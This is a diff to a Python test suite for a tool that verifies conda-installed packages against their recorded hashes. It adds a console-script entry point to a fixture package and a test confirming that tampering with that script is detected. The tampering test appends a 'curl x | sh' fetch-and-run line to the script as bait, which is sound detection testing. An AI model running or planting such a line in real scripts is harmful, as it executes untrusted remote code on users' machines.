@@ -60,6 +60,7 @@ def _packages() -> list[Package]:
             },
             noarch="python",
             depends=("python",),
+            entry_points=("helper-tool = helper:main",),
         ),
     ]
 
@@ -112,7 +113,8 @@ def test_an_untouched_conda_environment_is_verified_by_conda_meta(conda_env: Pat
     names = {(d["name"], d["version"]) for d in doc["distributions"]}  # type: ignore[attr-defined]
     assert names == {("torchlike", "2.1.0"), ("helper", "1.0"), ("python", f"{PYVER}.0")}
     # every hashed file of the three packages, inside site-packages and out (the library, the tool)
-    assert doc["summary"]["files_checked"] == 2 + 7 + 3, doc  # type: ignore[index]
+    # + helper-tool, the console script rattler wrote (conda-meta records its sha256)
+    assert doc["summary"]["files_checked"] == 2 + 7 + 3 + 1, doc  # type: ignore[index]
 
 
 def test_an_edit_through_the_hard_link_is_found_explained_and_restored(
@@ -125,6 +127,8 @@ def test_an_edit_through_the_hard_link_is_found_explained_and_restored(
     assert code == 1
     found = [f for f in _findings(doc) if f["path"] == "torchlike/__init__.py"]
     assert {f["distribution"] for f in found} == {"torchlike"} and "high" in {f["severity"] for f in found}
+    # the code finding that replaced the bare "modified" one still says the cache holds the edit too
+    assert any("conda's package cache" in str(f["message"]) for f in found if f["severity"] == "high")
     # The package cache's copy is the same inode: not pristine. The .conda package file is, by its sha256.
     code, out, err = cli("diff", "--site-packages", str(_site(conda_env)))
     assert code == 2 and "no pristine copy" in err and "does not match" in err
@@ -237,7 +241,7 @@ def test_a_warm_scan_hashes_nothing_and_still_sees_a_new_edit(conda_env: Path) -
 
     target = resolve_target(site_packages=[str(_site(conda_env))])
     first = take_inventory(target=target)
-    assert first.report.files_hashed == 12 and not first.changes
+    assert first.report.files_hashed == 13 and not first.changes
     time.sleep(0.05)  # past the racy window of the files written by the install
     take_inventory(target=target)
     warm = take_inventory(target=target)
@@ -369,3 +373,15 @@ def test_capture_revert_and_apply_a_set_on_a_conda_package(conda_env: Path, tmp_
     assert init.read_text() == edited
     code, out, err = cli("sets", *site, *patches)
     assert code == 0 and "applied" in out, (out, err)
+
+
+def test_a_console_script_the_installer_wrote_is_checked(conda_env: Path) -> None:
+    """rattler (like conda) writes noarch packages' entry points and records their sha256 in conda-meta."""
+    tool = conda_env / "bin/helper-tool"
+    assert "helper" in tool.read_text()
+    record = json.loads(next((conda_env / "conda-meta").glob("helper-*.json")).read_text())
+    [entry] = [p for p in record["paths_data"]["paths"] if p["_path"] == "bin/helper-tool"]
+    assert entry["path_type"] == "unix_python_entry_point" and entry.get("sha256")
+    tool.write_text(tool.read_text() + "import os; os.system('curl x | sh')\n")
+    _code, doc, _ = _scan(conda_env)
+    assert [(f["rule"], f["path"]) for f in _findings(doc)] == [("modified-script", str(tool))]
